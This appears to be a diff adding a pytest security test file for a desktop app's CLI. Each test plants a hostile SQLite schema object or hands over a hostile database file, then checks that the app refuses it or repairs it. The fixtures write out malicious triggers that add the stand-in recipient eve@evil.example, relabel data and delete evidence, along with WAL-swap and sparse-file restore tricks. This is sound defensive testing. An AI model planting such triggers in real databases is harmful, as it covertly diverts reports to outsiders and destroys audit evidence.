@@ -1,0 +1,223 @@
+"""A hostile database: schema objects a colleague planted in a workspace's orm.db (attacker 3), and
+database files handed over (attacker 2: `restore FILE`, a workspace folder). docs/security.md,
+"The database file itself". Each test is one attack, through the real CLI entry point (main(argv))
+on real SQLite files."""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import sqlite3
+from pathlib import Path
+
+import pytest
+
+from orm_desktop.cli import main
+from tests.conftest import copy_workspace
+from tests.security._attack import raw
+
+EVE = "eve@evil.example"
+
+
+@pytest.fixture
+def ws(demo_root, tmp_path) -> Path:
+    return copy_workspace(demo_root, tmp_path / "ws")
+
+
+def cli(capsys, ws_root: Path, *args: str) -> tuple[int, str, str]:
+    code = main(["--workspace", str(ws_root), *args])
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def plant(ws_root: Path, *sql: str) -> None:
+    conn = raw(ws_root)
+    for statement in sql:
+        conn.execute(statement)
+    conn.close()
+
+
+def one_line(err: str) -> str:
+    assert "Traceback" not in err, err
+    lines = [x for x in err.splitlines() if x.strip()]
+    assert len(lines) == 1, err
+    return lines[0]
+
+
+def a_mention(ws_root: Path) -> int:
+    conn = raw(ws_root)
+    try:
+        return conn.execute("SELECT id FROM mentions WHERE status = 'new' ORDER BY id LIMIT 1").fetchone()[0]
+    finally:
+        conn.close()
+
+
+def deliveries_value(ws_root: Path) -> str | None:
+    conn = raw(ws_root)
+    try:
+        row = conn.execute("SELECT value FROM settings WHERE key = 'deliveries'").fetchone()
+        return row[0] if row else None
+    finally:
+        conn.close()
+
+
+ADD_EVE = ("INSERT OR REPLACE INTO settings (key, value) VALUES ('deliveries', json_object('recipients', "
+           f"json_array(json_object('name', 'eve', 'email', '{EVE}', 'digest', 1, 'alerts', 1, 'reports', 1))))")
+
+# (what the planted object does, its SQL, the victim's ordinary command)
+PLANTED = {
+    "triage adds an outside recipient": (
+        f"CREATE TRIGGER zz_sync AFTER UPDATE OF status ON mentions BEGIN {ADD_EVE}; END", ["mark", "{mid}", "read"]),
+    "any audited action re-labels sentiment and deletes evidence": (
+        "CREATE TRIGGER zz_audit AFTER INSERT ON audit_log BEGIN UPDATE mentions SET sentiment = 1.0; "
+        f"DELETE FROM evidence; {ADD_EVE}; END", ["deliveries", "recipient", "add", "ana", "ana@example.org"]),
+    "an app trigger rewritten under its own name": (
+        None, ["mark", "{mid}", "read"]),
+}
+
+
+@pytest.mark.parametrize("attack", list(PLANTED))
+def test_a_planted_trigger_never_runs_in_the_victims_action(ws, capsys, attack):
+    sql, argv = PLANTED[attack]
+    if sql is None:  # mention_counts_au as m001 made it, plus the attacker's line
+        conn = raw(ws)
+        body = conn.execute("SELECT sql FROM sqlite_master WHERE name = 'mention_counts_au'").fetchone()[0]
+        conn.close()
+        sql = body.replace("END", f"{ADD_EVE}; END")
+        plant(ws, "DROP TRIGGER mention_counts_au")
+    plant(ws, sql)
+    before = deliveries_value(ws)
+    mid = a_mention(ws)
+    code, _out, err = cli(capsys, ws, *[a.format(mid=mid) for a in argv])
+    line = one_line(err)
+    assert code == 1 and "did not create" in line and "orm-desktop check" in line, line
+    assert deliveries_value(ws) == before  # the attacker's recipient was never added
+    conn = raw(ws)
+    assert conn.execute("SELECT status FROM mentions WHERE id = ?", (mid,)).fetchone()[0] == "new"
+    conn.close()
+
+
+def test_check_lists_every_schema_object_the_app_did_not_create(ws, capsys):
+    assert cli(capsys, ws, "check")[0] == 0
+    body = raw(ws).execute("SELECT sql FROM sqlite_master WHERE name = 'mention_counts_au'").fetchone()[0]
+    plant(ws,
+          f"CREATE TRIGGER zz_sync AFTER UPDATE OF status ON mentions BEGIN {ADD_EVE}; END",
+          "CREATE VIEW zz_view AS SELECT * FROM settings",
+          "CREATE TABLE zz_notes (x)",
+          "CREATE INDEX zz_expr ON settings (json_extract(value, '$.a'))",
+          "DROP TRIGGER mention_counts_au", body.replace("END", "DELETE FROM evidence; END"),
+          "DROP TRIGGER audit_log_no_delete", "DROP INDEX mentions_overdue")
+    code, out, err = cli(capsys, ws, "check")
+    assert code == 1 and "Traceback" not in err
+    for name in ("zz_sync", "zz_view", "zz_notes", "zz_expr", "mention_counts_au", "audit_log_no_delete",
+                 "mentions_overdue"):
+        assert name in out, (name, out)
+    assert "trigger zz_sync on mentions" in out and "changed: trigger mention_counts_au" in out
+
+
+def test_check_repair_drops_planted_objects_keeps_a_copy_and_the_app_works_again(ws, capsys):
+    body = raw(ws).execute("SELECT sql FROM sqlite_master WHERE name = 'mention_counts_au'").fetchone()[0]
+    plant(ws, f"CREATE TRIGGER zz_sync AFTER UPDATE OF status ON mentions BEGIN {ADD_EVE}; END",
+          "CREATE TABLE zz_notes (x)",
+          "DROP TRIGGER mention_counts_au", body.replace("END", "DELETE FROM evidence; END"),
+          "DROP TRIGGER audit_log_no_delete")
+    code, out, err = cli(capsys, ws, "check", "--repair")
+    assert code == 0 and "Traceback" not in err, err
+    assert "removed" in out and "zz_sync" in out and "kept at" in out
+    kept = next((ws / "backups").glob("before-repair-*.db"))
+    assert raw(kept.parent.parent).execute("SELECT count(*) FROM sqlite_master WHERE name LIKE 'zz_%'").fetchone()[0] == 0
+    assert sqlite3.connect(kept).execute("SELECT count(*) FROM sqlite_master WHERE name = 'zz_sync'").fetchone()[0] == 1
+    assert cli(capsys, ws, "check")[0] == 0  # the app's own trigger is back as it made it, the protection too
+    mid = a_mention(ws)
+    assert cli(capsys, ws, "mark", str(mid), "read")[0] == 0
+    assert deliveries_value(ws) is None
+    actions = [r[0] for r in raw(ws).execute("SELECT action FROM audit_log ORDER BY id DESC LIMIT 3")]
+    assert "workspace.schema_repaired" in actions
+    assert cli(capsys, ws, "audit", "verify")[0] == 0
+
+
+def test_connections_run_with_trusted_schema_off_and_defensive(ws):
+    from orm_desktop.service import Service
+
+    svc = Service.open(ws)
+    try:
+        assert svc.conn.execute("PRAGMA trusted_schema").fetchone()[0] == 0
+        svc.conn.execute("PRAGMA writable_schema = ON")
+        with pytest.raises(sqlite3.Error):
+            svc.conn.execute("UPDATE sqlite_master SET sql = sql WHERE name = 'settings'")
+    finally:
+        svc.close()
+
+
+@pytest.mark.parametrize("lie", ["older stamp", "a table gone"])
+def test_a_schema_version_stamp_that_lies_is_one_line_and_nothing_is_migrated(ws, capsys, lie):
+    plant(ws, "PRAGMA user_version = 10" if lie == "older stamp" else "DROP TABLE migration_log")
+    digest = hashlib.sha256((ws / "orm.db").read_bytes()).hexdigest()
+    code, _out, err = cli(capsys, ws, "mentions", "--limit", "1")
+    line = one_line(err)
+    assert code == 1 and ("version" in line or "migration_log" in line), line
+    assert hashlib.sha256((ws / "orm.db").read_bytes()).hexdigest() == digest
+    code, out, _err = cli(capsys, ws, "check")
+    assert code == 1 and ("migration_log" in out or "version 10" in out), out
+
+
+def _backup_of(ws_root: Path, dest: Path) -> Path:
+    with sqlite3.connect(ws_root / "orm.db") as a, sqlite3.connect(dest) as b:
+        a.backup(b)
+    return dest
+
+
+@pytest.mark.parametrize("hostile", ["planted trigger", "older stamp", "not SQLite"])
+def test_restore_refuses_a_hostile_database_file(ws, capsys, tmp_path, hostile):
+    src = _backup_of(ws, tmp_path / "handed-over.db")
+    if hostile == "planted trigger":
+        plant_in = sqlite3.connect(src)
+        plant_in.execute(f"CREATE TRIGGER zz AFTER UPDATE ON mentions BEGIN {ADD_EVE}; END")
+        plant_in.commit()
+        plant_in.close()
+    elif hostile == "older stamp":
+        sqlite3.connect(src, isolation_level=None).execute("PRAGMA user_version = 5")
+    else:
+        src.write_bytes(os.urandom(8192))
+    digest = hashlib.sha256((ws / "orm.db").read_bytes()).hexdigest()
+    code, _out, err = cli(capsys, ws, "restore", str(src))
+    line = one_line(err)
+    assert code == 1 and "cannot be restored" in line and "restore a backup" not in line, line
+    assert hashlib.sha256((ws / "orm.db").read_bytes()).hexdigest() == digest
+    assert not list((ws / "backups").glob("before-restore-*")) if (ws / "backups").exists() else True
+    assert cli(capsys, ws, "mentions", "--limit", "1")[0] == 0
+
+
+def test_restore_swaps_in_what_it_checked_not_a_planted_file_beside_it(ws, capsys, tmp_path):
+    """The backup's main file holds a trigger; its -wal (read by the check) drops it again. The check
+    saw no trigger and the main file alone, trigger included, was copied in."""
+    src = _backup_of(ws, tmp_path / "handed-over.db")
+    c = sqlite3.connect(src, isolation_level=None)
+    c.execute(f"CREATE TRIGGER zz AFTER UPDATE ON mentions BEGIN {ADD_EVE}; END")
+    c.execute("PRAGMA journal_mode = WAL")
+    c.execute("PRAGMA wal_checkpoint(TRUNCATE)")  # the trigger is in the main file
+    c.execute("PRAGMA wal_autocheckpoint = 0")
+    c.execute("DROP TRIGGER zz")
+    main_bytes, wal_bytes = src.read_bytes(), Path(f"{src}-wal").read_bytes()
+    c.close()  # closing checkpoints: put the files back as they were before
+    src.write_bytes(main_bytes)
+    Path(f"{src}-wal").write_bytes(wal_bytes)
+    code, _out, err = cli(capsys, ws, "restore", str(src))
+    if code == 0:
+        names = [r[0] for r in sqlite3.connect(ws / "orm.db").execute("SELECT name FROM sqlite_master")]
+        assert "zz" not in names
+    else:
+        assert "cannot be restored" in one_line(err)
+    assert cli(capsys, ws, "check")[0] == 0
+
+
+def test_restore_of_a_sparse_giant_copies_only_the_database(ws, capsys, tmp_path):
+    """A 5 MiB backup followed by 512 MiB of holes passed the check (SQLite reads the pages its
+    header counts) and was copied whole: 512 MiB written (a 50 GiB one fills the disk)."""
+    src = _backup_of(ws, tmp_path / "handed-over.db")
+    real = src.stat().st_size
+    os.truncate(src, 512 * 2**20)
+    code, _out, err = cli(capsys, ws, "restore", str(src))
+    assert code == 0, err
+    assert (ws / "orm.db").stat().st_size <= real + 65536
+    assert cli(capsys, ws, "check")[0] == 0
